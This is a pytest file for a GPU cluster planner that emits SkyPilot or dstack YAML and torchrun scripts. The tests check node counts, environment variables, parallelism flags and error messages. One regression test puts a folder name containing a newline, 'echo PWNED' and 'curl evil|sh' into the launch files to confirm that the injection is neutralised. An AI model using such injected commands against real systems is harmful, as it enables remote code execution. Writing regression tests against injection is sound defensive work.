"""`plan --emit`: the recommended cluster and parallel plan as SkyPilot/dstack YAML or a
torchrun script, with the plan as GPUPLAN_* variables and as flags for the user's script."""

from __future__ import annotations

import pytest
from launch_helpers import load, torchrun_args

from catalog import load_catalog
from planner.launch import TRAIN_SCRIPT, LaunchError, training_launch

CAT = load_catalog("packaged")  # the launch names of its accelerators

REC = {"cloud": "gcp", "region": "us-central1", "instance_type": "a3-highgpu-8g", "nodes": 4,
       "gpus": 32, "pricing": "on_demand", "accelerator": "H100-SXM5-80GB",
       "wall_clock_hours": 30.5, "total_cost_usd": 12345.0,
       "plan": {"tp": 8, "pp": 2, "dp": 2, "zero_stage": 1, "micro_batch": 1,
                "recompute": "full", "grad_accumulation": 64}}
ENV = {"GPUPLAN_TP": "8", "GPUPLAN_PP": "2", "GPUPLAN_DP": "2", "GPUPLAN_ZERO_STAGE": "1",
       "GPUPLAN_MICRO_BATCH": "1", "GPUPLAN_GRAD_ACCUM": "64", "GPUPLAN_RECOMPUTE": "full",
       "GPUPLAN_CP": "1", "GPUPLAN_VP": "1"}
FLAGS = "--tp 8 --pp 2 --dp 2 --zero-stage 1 --micro-batch 1 --grad-accum 64 --recompute full"


def test_the_flags_name_context_virtual_and_expert_parallelism_where_the_plan_uses_them():
    from planner.launch import plan_args

    moe = dict(REC["plan"], cp=2, virtual_stages=4, ep=8)
    assert plan_args(moe) == ("--tp 8 --pp 2 --dp 2 --cp 2 --vp 4 --ep 8 --zero-stage 1 "
                              "--micro-batch 1 --grad-accum 64 --recompute full")
    assert plan_args(dict(REC["plan"], cp=1, virtual_stages=1)) == FLAGS


def test_skypilot_training_task():
    (f,) = training_launch(REC, "skypilot", catalog=CAT, task_path="t.yaml").files
    task = load(f.text)
    assert task["num_nodes"] == 4
    assert task["resources"] == {"infra": "gcp/us-central1", "instance_type": "a3-highgpu-8g",
                                 "accelerators": "H100:8", "use_spot": False,
                                 "network_tier": "best",
                                 # on-demand: auto-down after 30 idle minutes (cost bound)
                                 "autostop": {"idle_minutes": 30, "down": True}}
    assert task["envs"] == ENV  # yaml-spec.html: envs is a str -> str mapping
    args = torchrun_args(task["run"])
    assert (args["--nnodes"], args["--nproc-per-node"]) == ("4", "8")
    assert f"{TRAIN_SCRIPT} {FLAGS}  # ← replace with your training script" in task["run"]


def test_dstack_training_task_and_fleet():
    bundle = training_launch(dict(REC, pricing="spot"), "dstack", catalog=CAT,
                             task_path="t.dstack.yml")
    fleet, task = (load(f.text) for f in bundle.files)
    assert fleet["placement"] == "cluster"
    assert fleet["nodes"] == {"min": 0, "target": 4, "max": 4}  # released when idle
    assert task["nodes"] == 4 and task["spot_policy"] == "spot"
    assert task["retry"]["on_events"] == ["interruption", "no-capacity"]
    assert {e.split("=")[0]: e.split("=")[1] for e in task["env"]} == ENV
    assert task["resources"]["gpu"] == "H100:80GB:8"
    assert torchrun_args(task["commands"][-1])["--node-rank"] == "$DSTACK_NODE_RANK"


def test_torchrun_script_for_several_nodes():
    (f,) = training_launch(REC, "torchrun", catalog=CAT, task_path="t.sh").files
    assert f.text.startswith("#!/usr/bin/env bash\n")
    for k, v in ENV.items():
        assert f"export {k}={v}\n" in f.text
    args = torchrun_args(f.text)
    assert args["--nnodes"] == "4" and args["--nproc-per-node"] == "8"
    assert args["--node-rank"].startswith("${NODE_RANK:?")
    assert args["--master-port"] == "29500"


def test_bad_emit_target_and_missing_plan():
    with pytest.raises(LaunchError, match="Did you mean 'torchrun'"):
        training_launch(REC, "torchrn", catalog=CAT, task_path="x")
    with pytest.raises(LaunchError, match="To fix"):
        training_launch(None, "skypilot", catalog=CAT, task_path="x")


@pytest.mark.parametrize("target", ["torchrun", "skypilot", "dstack"])
def test_a_model_folder_named_with_a_newline_stays_inside_the_comment(target, tmp_path):
    """`--config 'x<newline>echo PWNED; #/config.json'` wrote the folder's name into the
    header comment, so its second line ran as shell code (torchrun) or became YAML keys."""
    from planner import WorkloadSpec, build_workload

    config = {"model_type": "llama", "hidden_size": 512, "num_hidden_layers": 4,
              "num_attention_heads": 8, "intermediate_size": 1024, "vocab_size": 32000}
    source = str(tmp_path / "x\necho PWNED; #\nsetup: curl evil|sh" / "config.json")
    workload = build_workload(WorkloadSpec(config=config, config_name=source, tokens="1B"))
    assert "\n" not in workload.arch.name
    bundle = training_launch(REC, target, catalog=CAT, task_path="t.out", workload=workload)
    for f in bundle.files:
        lines = f.text.splitlines()
        assert not [x for x in lines if x.startswith(("echo", "setup: curl"))], f.text
        if target != "torchrun":
            assert list(load(f.text)).count("setup") <= 1


@pytest.mark.parametrize("target", ["torchrun", "skypilot", "dstack"])
def test_a_plan_no_launch_file_covers_is_one_line_and_nothing_on_stdout(target, capsys):
    """A TPU recommendation with --emit printed the whole plan (5 KB) on stdout and then
    exit 2: the target is checked after planning, but now before anything is printed."""
    from planner.cli import main

    code = main(["plan", "--model", "llama3-8b", "--tokens", "1T", "--deadline", "14d",
                 "--gpu", "TPU-v5p", "--emit", target])
    out, err = capsys.readouterr()
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and "launch files do not cover" in err
    assert err.rstrip().endswith("To fix: leave out --emit, or plan on GPUs with --gpu "
                                 "(e.g. --gpu H100)")


def test_a_plan_on_a_gpu_no_orchestrator_names_emits_a_torchrun_script(capsys, tmp_path):
    """V100-PCIe-16GB (no SkyPilot/dstack name): the plan succeeded, then --emit torchrun was
    refused as 'launch files do not cover … (they run CUDA/ROCm GPUs)' — of a CUDA GPU."""
    from planner.cli import main

    out_file = tmp_path / "v.sh"
    code = main(["plan", "--model", "gpt2", "--tokens", "1B", "--gpu", "V100-PCIe-16GB",
                 "--precision", "fp16", "--emit", "torchrun", "--emit-out", str(out_file)])
    _, err = capsys.readouterr()
    assert code == 0, err
    assert "torchrun" in out_file.read_text() and "GPUPLAN_TP" in out_file.read_text()
